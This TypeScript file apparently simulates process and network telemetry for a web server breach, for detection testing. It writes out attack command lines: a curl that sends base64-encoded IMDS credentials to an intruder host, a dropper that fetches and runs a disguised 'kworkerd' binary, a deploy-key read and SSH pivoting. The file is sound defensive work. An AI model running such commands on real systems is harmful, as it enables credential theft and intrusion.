import { clock } from './clock'
import { BASTION_01, IMDS, INTRUDER, PACKAGE_PROXY, QUEUE, VISITORS, WEB_01, WWW_DATA } from './hosts'
import { Machine, type Life } from './machine'
import type { Random } from './random'
import { services, sh, ssmRefresh } from './routines'

const WEB_ROOT = '/var/www/shop/public'
const CREDENTIALS = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
/** What the command substitution gave: an answer of the metadata service with keys that are none. */
const STOLEN = Buffer.from(
  '{"Code":"Success","Type":"AWS-HMAC","AccessKeyId":"ASIAEXAMPLEWEB01KEY0","SecretAccessKey":"not-a-real-secret-key","Token":"not-a-real-token","Expiration":"2026-11-03T16:21:40Z"}',
).toString('base64')

/** Upgrades in the morning; php-fpm restarts, and so its whole ancestry but init is on record. */
function upgrade(m: Machine): { readonly master: Life; readonly workers: readonly [Life, Life] } {
  const t = clock('09:24:10')
  const daily = m.spawn(m.init, t, { path: '/usr/lib/apt/apt.systemd.daily', args: ['/bin/sh', '/usr/lib/apt/apt.systemd.daily', 'install'], leads: 'session', entry: { type: 'init' } })
  const update = m.spawn(daily, t + 210, { path: '/usr/bin/apt-get', args: ['apt-get', '-qq', '-y', 'update'] })
  const http = m.spawn(update, t + 260, { path: '/usr/lib/apt/methods/http', args: ['/usr/lib/apt/methods/http'], user: { name: '_apt', id: '105' } })
  m.connect(http, t + 301, PACKAGE_PROXY, { lasts: 4210, sent: 2214, received: 481_220 })
  m.end(http, t + 4630)
  m.end(update, t + 5120)
  const upgrades = m.spawn(daily, t + 6020, { path: '/usr/bin/unattended-upgrade', args: ['/usr/bin/python3', '/usr/bin/unattended-upgrade'] })
  m.run(upgrades, t + 31_400, { path: '/usr/bin/dpkg', args: ['/usr/bin/dpkg', '--status-fd', '12', '--configure', '--pending'] }, 8800)
  m.end(upgrades, t + 41_030)
  m.end(daily, t + 41_090)

  const master = m.spawn(m.init, clock('09:24:52'), { path: '/usr/sbin/php-fpm8.1', args: ['/usr/sbin/php-fpm8.1', '--nodaemonize', '--fpm-config', '/etc/php/8.1/fpm/php-fpm.conf'], leads: 'session', entry: { type: 'init' } })
  const pool = { args: ['php-fpm: pool www'], user: WWW_DATA, cwd: WEB_ROOT }
  return { master, workers: [m.fork(master, clock('09:24:52.142'), pool), m.fork(master, clock('09:24:52.145'), pool)] }
}

/** A systemd timer asks the site's own health page every quarter of an hour. */
function healthChecks(m: Machine, nginx: Life): void {
  for (let t = clock('09:30:03'); t < clock('11:05:00'); t += 900_000) {
    const script = m.spawn(m.init, t, { path: '/usr/local/bin/healthcheck.sh', args: ['/bin/sh', '/usr/local/bin/healthcheck.sh'], leads: 'session', entry: { type: 'init' } })
    const curl = m.spawn(script, t + 6, { path: '/usr/bin/curl', args: ['curl', '-fsS', '-m', '5', 'http://127.0.0.1/health'] })
    m.connect(curl, t + 31, { ip: '127.0.0.1', port: 80 })
    m.accept(nginx, t + 32, { ip: '127.0.0.1', port: 80 }, { ip: '127.0.0.1', port: m.random.between(32_768, 60_999) })
    m.end(curl, t + 58)
    m.end(script, t + 63)
  }
}

/** The shop makes thumbnails through a shell too: php-fpm that starts sh is nothing unusual here. */
function thumbnails(m: Machine, workers: readonly [Life, Life]): void {
  const uploads = [['09:47:21', 'b71c'], ['10:02:48', '09af'], ['10:22:16', 'e3d0'], ['10:41:09', '4c88']] as const
  uploads.forEach(([time, upload], i) => {
    const t = clock(time)
    const source = `/var/www/shop/storage/uploads/${upload}.jpg`
    const target = `/var/www/shop/storage/thumbs/${upload}.webp`
    const life = sh(m, workers[i % 2 ? 1 : 0], t, `/usr/bin/convert '${source}' -resize 320x '${target}'`)
    m.exec(life, t + 3, { path: '/usr/bin/convert-im6.q16', args: ['/usr/bin/convert', source, '-resize', '320x', target] })
    m.end(life, t + 388 + i * 31)
  })
}

function visitors(m: Machine, nginx: Life): void {
  for (let t = clock('09:28:15'); t < clock('11:03:00'); t += m.random.between(210_000, 520_000)) {
    const ip = VISITORS[m.random.between(0, VISITORS.length - 1)] ?? ''
    m.accept(nginx, t, { ip: WEB_01.ip, port: 443 }, { ip, port: m.random.between(20_000, 60_000) })
  }
}

/** First commands through the hole in the shop, and the role's credentials by IMDSv1. */
function exploit(m: Machine, nginx: Life, worker: Life): void {
  const request = (time: string) => m.accept(nginx, clock(time), { ip: WEB_01.ip, port: 443 }, { ip: INTRUDER, port: m.random.between(40_000, 60_000) })

  request('10:12:04.118')
  const first = sh(m, worker, clock('10:12:04.203'), 'id; whoami')
  m.run(first, clock('10:12:04.206'), { path: '/usr/bin/id', args: ['id'] })
  m.exec(first, clock('10:12:04.213'), { path: '/usr/bin/whoami', args: ['whoami'] })
  m.end(first, clock('10:12:04.217'))

  request('10:12:31.640')
  const second = sh(m, worker, clock('10:12:31.702'), 'uname -a; cat /etc/os-release; env')
  m.run(second, clock('10:12:31.705'), { path: '/usr/bin/uname', args: ['uname', '-a'] })
  m.run(second, clock('10:12:31.711'), { path: '/usr/bin/cat', args: ['cat', '/etc/os-release'] })
  m.exec(second, clock('10:12:31.718'), { path: '/usr/bin/env', args: ['env'] })
  m.end(second, clock('10:12:31.722'))

  // dash gives the last command of `-c` its own process: sh becomes curl, so both are children of the php-fpm worker.
  request('10:13:08.051')
  const list = sh(m, worker, clock('10:13:08.122'), `curl -s ${CREDENTIALS}`)
  m.exec(list, clock('10:13:08.125'), { path: '/usr/bin/curl', args: ['curl', '-s', CREDENTIALS] })
  m.connect(list, clock('10:13:08.166'), IMDS, { lasts: 9, sent: 131, received: 208 })
  m.end(list, clock('10:13:08.181'))

  request('10:13:40.377')
  const role = `${CREDENTIALS}web-prod-role`
  const steal = sh(m, worker, clock('10:13:40.452'), `curl -sk "https://${INTRUDER}/i?d=$(curl -s ${role} | base64 -w0)"`)
  const substitution = m.fork(steal, clock('10:13:40.455'))
  const ask = m.spawn(substitution, clock('10:13:40.457'), { path: '/usr/bin/curl', args: ['curl', '-s', role] })
  const encode = m.spawn(substitution, clock('10:13:40.458'), { path: '/usr/bin/base64', args: ['base64', '-w0'] })
  m.connect(ask, clock('10:13:40.494'), IMDS, { lasts: 8, sent: 144, received: 1687 })
  m.end(ask, clock('10:13:40.509'))
  m.end(encode, clock('10:13:40.511'))
  m.end(substitution, clock('10:13:40.512'))
  m.exec(steal, clock('10:13:40.514'), { path: '/usr/bin/curl', args: ['curl', '-sk', `https://${INTRUDER}/i?d=${STOLEN}`] })
  m.connect(steal, clock('10:13:40.561'), { ip: INTRUDER, port: 443 }, { lasts: 214, sent: 1422, received: 512 })
  m.end(steal, clock('10:13:40.790'))
}

/** The implant: dropped under /tmp, asks the metadata service itself, goes into the background and calls home. */
function implant(m: Machine, nginx: Life, worker: Life): void {
  m.accept(nginx, clock('10:15:22.410'), { ip: WEB_01.ip, port: 443 }, { ip: INTRUDER, port: 51_822 })
  const dropper = sh(m, worker, clock('10:15:22.486'), `mkdir -p /tmp/.x && curl -so /tmp/.x/kworkerd http://${INTRUDER}:8080/k && chmod 755 /tmp/.x/kworkerd && cd /tmp/.x && ./kworkerd; true`)
  m.run(dropper, clock('10:15:22.489'), { path: '/usr/bin/mkdir', args: ['mkdir', '-p', '/tmp/.x'] })
  const fetch = m.spawn(dropper, clock('10:15:22.496'), { path: '/usr/bin/curl', args: ['curl', '-so', '/tmp/.x/kworkerd', `http://${INTRUDER}:8080/k`] })
  m.connect(fetch, clock('10:15:22.541'), { ip: INTRUDER, port: 8080 }, { lasts: 1120, sent: 118, received: 2_411_520 })
  m.end(fetch, clock('10:15:23.702'))
  m.run(dropper, clock('10:15:23.706'), { path: '/usr/bin/chmod', args: ['chmod', '755', '/tmp/.x/kworkerd'] })
  const started = m.spawn(dropper, clock('10:15:23.714'), { path: '/tmp/.x/kworkerd', args: ['./kworkerd'], cwd: '/tmp/.x' })
  m.connect(started, clock('10:15:24.027'), IMDS, { lasts: 11, sent: 139, received: 1687 })
  const daemon = m.fork(started, clock('10:15:24.090'), { leads: 'session', args: ['[kworker/u4:2]'] })
  m.end(started, clock('10:15:24.094'))
  m.orphan(daemon, clock('10:15:24.096'))
  m.end(dropper, clock('10:15:24.101'))

  for (let t = clock('10:15:24.610'); t < clock('11:02:00'); t += m.random.between(465_000, 495_000)) {
    m.connect(daemon, t, { ip: INTRUDER, port: 8443 }, { lasts: 1340, sent: 902, received: 388 })
  }

  const look = sh(m, daemon, clock('10:17:10.330'), 'ls -la /var/www/shop/storage; cat /var/www/shop/storage/deploy_key')
  m.run(look, clock('10:17:10.333'), { path: '/usr/bin/ls', args: ['ls', '-la', '/var/www/shop/storage'] })
  m.exec(look, clock('10:17:10.341'), { path: '/usr/bin/cat', args: ['cat', '/var/www/shop/storage/deploy_key'] })
  m.end(look, clock('10:17:10.344'))
  m.run(daemon, clock('10:19:47.120'), { path: '/usr/bin/ss', args: ['ss', '-tnp'] }, 11)

  const ssh = m.spawn(daemon, clock('10:26:41.204'), { path: '/usr/bin/ssh', args: ['ssh', '-i', '/tmp/.x/k', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-tt', `deploy@${BASTION_01.ip}`] })
  m.connect(ssh, clock('10:26:41.231'), { ip: BASTION_01.ip, port: 22 }, { lasts: 1_370_800, sent: 31_204, received: 88_412 })
  m.end(ssh, clock('10:49:32.049'))

  // Two more requests of the same process, long after its exec: no alert of this rule.
  m.connect(daemon, clock('10:40:00.512'), IMDS, { lasts: 9, sent: 139, received: 1687 })
  m.connect(daemon, clock('10:55:30.871'), IMDS, { lasts: 10, sent: 139, received: 1687 })
}

/** web-01: nginx and php-fpm, open to the internet. */
export function web01(random: Random): Machine {
  const booted = clock('05:12:44.318') - 9 * 86_400_000
  const m = new Machine(WEB_01, random, 18_420, booted)
  const since = booted + 14_206
  const { worker: ssm } = services(m, { sshd: 812, cron: 701, ssm: 733 }, since)
  const master = m.before(901, since, { path: '/usr/sbin/nginx', args: ['nginx: master process /usr/sbin/nginx -g daemon on; master_process on;'] })
  const nginx = m.before(903, since, { path: '/usr/sbin/nginx', args: ['nginx: worker process'], user: WWW_DATA, leads: 'group' }, master)

  const { workers } = upgrade(m)
  healthChecks(m, nginx)
  thumbnails(m, workers)
  visitors(m, nginx)
  ssmRefresh(m, ssm, ['09:31:12', '10:01:13', '10:31:14', '11:01:14'])
  m.connect(ssm, clock('09:31:13'), QUEUE, { lasts: 320, sent: 2201, received: 4102 })
  exploit(m, nginx, workers[1])
  implant(m, nginx, workers[1])
  return m
}
